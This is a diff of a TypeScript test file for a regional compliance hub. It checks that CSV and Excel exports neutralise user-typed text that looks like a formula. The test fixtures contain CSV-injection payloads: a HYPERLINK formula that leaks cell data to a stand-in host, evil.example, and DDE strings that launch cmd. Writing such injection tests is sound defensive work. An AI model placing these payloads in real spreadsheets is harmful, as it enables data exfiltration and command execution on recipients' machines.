@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { parse } from 'csv-parse/sync';
-import { createLogger, runSql } from '@hub/common';
+import { createLogger, queryRows, sql } from '@hub/common';
 import { gql, gqlData, tokenFor } from '@hub/common/testing';
 import { startWorker } from '@hub/compliance/worker';
 import { registerOrganization } from './support/fixtures.js';
@@ -21,9 +21,9 @@ let admin: string;
 let analyst: string;
 
 const EVIL = '=HYPERLINK("https://evil.example/?"&C2;"x")';
-const SUB = '-2+3+cmd|\' /C calc\'!A0';
+const SUB = "-2+3+cmd|' /C calc'!A0";
 const PLAIN = 'Министерство формул Хабаровского края';
-const AT_REASON = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+const AT_REASON = "@SUM(1+1)*cmd|' /C calc'!A0";
 const PLUS_REASON = '+7 дней реконструкции сайта';
 const FORMULA_START = /^[=+\-@\t\r]/;
 
@@ -37,21 +37,39 @@ beforeAll(async () => {
   const plain = await registerOrganization(hub.gatewayUrl, admin, { name: PLAIN, kind: 'EXECUTIVE_BODY', head });
   // Monday's summary goes to the ЦУР: without one there is no workbook to look at.
   await registerOrganization(hub.gatewayUrl, admin, {
-    name: 'Центр управления регионом (формулы)', kind: 'REGIONAL_MANAGEMENT_CENTER', head, contactEmail: 'formulas-cur@khv-region.test',
+    name: 'Центр управления регионом (формулы)',
+    kind: 'REGIONAL_MANAGEMENT_CENTER',
+    head,
+    contactEmail: 'formulas-cur@khv-region.test',
   });
 
   now = new Date('2026-12-01T00:05:00Z');
-  const run = await gql(hub.gatewayUrl, operation('RunComplianceCheck'), { rule: 'WEEKLY_PLACEMENTS', period: '2026-W48' }, admin);
+  const run = await gql<{ runComplianceCheck: { evaluated: number } }>(
+    hub.gatewayUrl,
+    operation('RunComplianceCheck'),
+    { rule: 'WEEKLY_PLACEMENTS', period: '2026-W48' },
+    admin,
+  );
   expect(run.errors).toBeUndefined();
-  expect(run.data.runComplianceCheck.evaluated).toBe(3);
-  for (const [organizationId, reason] of [[sub, AT_REASON], [plain, PLUS_REASON]] as const) {
-    await gqlData(hub.gatewayUrl, operation('GrantExemption'), { input: { organizationId, rule: 'WEEKLY_PLACEMENTS', period: '2026-W48', reason } }, admin);
+  expect(run.data!.runComplianceCheck.evaluated).toBe(3);
+  for (const [organizationId, reason] of [
+    [sub, AT_REASON],
+    [plain, PLUS_REASON],
+  ] as const) {
+    await gqlData(
+      hub.gatewayUrl,
+      operation('GrantExemption'),
+      { input: { organizationId, rule: 'WEEKLY_PLACEMENTS', period: '2026-W48', reason } },
+      admin,
+    );
   }
 }, 120_000);
 afterAll(() => hub?.stop());
 
 const download = (file: string) =>
-  fetch(`${hub.gatewayUrl.replace(/\/graphql$/, '')}/reports/${file}?period=2026-W48&rule=WEEKLY_PLACEMENTS`, { headers: { authorization: `Bearer ${analyst}` } });
+  fetch(`${hub.gatewayUrl.replace(/\/graphql$/, '')}/reports/${file}?period=2026-W48&rule=WEEKLY_PLACEMENTS`, {
+    headers: { authorization: `Bearer ${analyst}` },
+  });
 
 describe('an export with user-typed text that looks like a formula', () => {
   it('CSV: every such cell starts with a single quote, numbers stay bare', async () => {
@@ -62,7 +80,7 @@ describe('an export with user-typed text that looks like a formula', () => {
     const live = rows.flatMap((r) => Object.values(r)).filter((cell) => FORMULA_START.test(cell));
     expect(live).toEqual([]);
     const byName = new Map(rows.map((r) => [r['Организация']!, r]));
-    expect(byName.get(`'${EVIL}`)).toMatchObject({ 'Статус': 'не выполнено', 'Норма': '3', 'Факт': '0', 'Основание освобождения': '' });
+    expect(byName.get(`'${EVIL}`)).toMatchObject({ Статус: 'не выполнено', Норма: '3', Факт: '0', 'Основание освобождения': '' });
     expect(byName.get(`'${SUB}`)).toMatchObject({ 'Вышестоящий орган': `'${EVIL}`, 'Основание освобождения': `'${AT_REASON}` });
     expect(byName.get(PLAIN)).toMatchObject({ 'Основание освобождения': `'${PLUS_REASON}` });
   });
@@ -73,7 +91,10 @@ describe('an export with user-typed text that looks like a formula', () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
     const sheet = workbook.worksheets[0]!;
-    const rows = sheet.getSheetValues().slice(2).map((row) => (row as unknown[]).slice(1));
+    const rows = sheet
+      .getSheetValues()
+      .slice(2)
+      .map((row) => (row as unknown[]).slice(1));
     expect(rows).toHaveLength(3);
     const live = rows.flat().filter((cell) => typeof cell !== 'number' && FORMULA_START.test(String(cell ?? '')));
     expect(live).toEqual([]);
@@ -86,24 +107,35 @@ describe('an export with user-typed text that looks like a formula', () => {
     sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
   });
 
-  it('Monday\'s summary workbook: organization names start with a single quote, numbers stay numbers', async () => {
+  it("Monday's summary workbook: organization names start with a single quote, numbers stay numbers", async () => {
     const worker = await startWorker({
-      databaseUrl: hub.databaseUrl, timezone: 'Asia/Vladivostok', logger: createLogger('formulas-test', 'silent'), clock: () => now,
-      workerName: 'formulas-worker', processEvery: 3_600_000, publicUrl: 'https://hub.khv-region.test', smtpUrl: hub.smtpUrl, mailFrom: 'hub@khv-region.test',
+      databaseUrl: hub.databaseUrl,
+      timezone: 'Asia/Vladivostok',
+      logger: createLogger('formulas-test', 'silent'),
+      clock: () => now,
+      workerName: 'formulas-worker',
+      processEvery: 3_600_000,
+      publicUrl: 'https://hub.khv-region.test',
+      smtpUrl: hub.smtpUrl,
+      mailFrom: 'hub@khv-region.test',
     });
     try {
       await worker.scheduler.runNow('compliance.weekly-summary');
     } finally {
       await worker.stop();
     }
-    const [letter] = await runSql<{ attachments: { filename: string; contentBase64: string }[] }[]>(
-      hub.subgraphs.compliance.orm.em.fork(), `select attachments from compliance.notification where dedup_key = 'summary:2026-W48'`,
+    const [letter] = await queryRows<{ attachments: { filename: string; contentBase64: string }[] }>(
+      hub.subgraphs.compliance.orm.em.fork(),
+      sql`select attachments from compliance.notification where dedup_key = 'summary:2026-W48'`,
     );
     const attachment = letter!.attachments.find((a) => a.filename === 'regional-content-2026-W48.xlsx')!;
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(Buffer.from(attachment.contentBase64, 'base64') as never);
     const sheet = workbook.getWorksheet('Итоги недели')!;
-    const rows = sheet.getSheetValues().slice(2).map((row) => (row as unknown[]).slice(1));
+    const rows = sheet
+      .getSheetValues()
+      .slice(2)
+      .map((row) => (row as unknown[]).slice(1));
     const live = rows.flat().filter((cell) => typeof cell !== 'number' && FORMULA_START.test(String(cell ?? '')));
     expect(live).toEqual([]);
     const byName = new Map(rows.filter((r) => r[2] === 'Размещение регионального контента (п. 3.1)').map((r) => [r[0], r]));
